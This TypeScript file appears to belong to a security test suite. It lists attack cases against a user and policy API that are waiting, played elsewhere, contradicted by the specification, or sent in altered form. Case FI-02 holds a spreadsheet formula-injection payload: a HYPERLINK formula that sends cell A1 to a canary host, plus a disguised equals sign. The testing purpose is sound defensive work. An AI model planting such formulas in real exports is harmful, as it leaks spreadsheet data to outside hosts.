import type { AttackCase } from './case.ts';

/** Cases whose calls are not built yet, by where those calls stand; the lists may only shrink, and a call that answers fails. */
export const waiting: Readonly<Record<string, readonly string[]>> = {
  'favourites and subscriptions': [
    ...['PL-02', 'MA-05', 'MA-06', 'IU-10', 'IU-11', 'IU-13'],
    'MX-user_subscribe-usersubscribe-remove-anon',
  ],
};

/** Cases that need what the attack fixture has not, by the test that plays them. */
export const playedElsewhere: Readonly<Record<string, string>> = {
  'SE-17':
    'needs a provider that issued the code: journeys/sign-on/sign-on.test.ts sends one hundreds of times',
};

/** Cases whose expectation the specification or its decisions contradict, with the reason. */
export const contradicted: Readonly<Record<string, string>> = {
  'MX-policyCollection-detail-anon':
    'section 7 names no detail of a favourite: there is no such call, for anybody',
};

/** What a case has to say otherwise to reach what it attacks, with the reason. */
export const otherwiseAsked: Readonly<
  Record<
    string,
    Partial<Pick<AttackCase, 'as' | 'method' | 'path' | 'query' | 'body' | 'setup' | 'then'>> & {
      because: string;
    }
  >
> = {
  'FX-01': { as: 'platform', because: 'packages are the platform administrator’s: another is refused first' },
  'FX-02': { as: 'platform', because: 'packages are the platform administrator’s: another is refused first' },
  'UN-06': { as: 'platform', because: 'packages are the platform administrator’s: another is refused first' },
  'DX-04': {
    setup: [
      {
        ...{ as: 'tenant-admin', method: 'POST' },
        path: '/api/policy/policyuserinfo/accountDisabled?id={{self.policyUserId}}',
      },
    ],
    because: 'the id of a policy user is that of the membership and not of the account',
  },
  'FI-02': {
    path: '/api/blade-user/update-info',
    body: { realName: '=HYPERLINK("http://{{canary}}?"&A1,"x")', name: '＝1+1\t=1+1' },
    then: { as: 'tenant-admin', method: 'GET', path: '/api/blade-user/export-user' },
    because: 'a draft is in nobody’s export; the names of its company are',
  },
  'UP-18': {
    ...{ as: 'portal-user', query: { processInsId: '{{self.processInsId}}' } },
    because: 'who keeps a tenant has no part in a case: it is not found, and its archive proves nothing',
  },
  'CG-02': {
    ...{ as: 'platform', method: 'POST', query: { ids: '{{A.codeIdWithEvilComment}}', system: 'all' } },
    because: 'section 7 generates by POST, and generating is the platform administrator’s',
  },
};
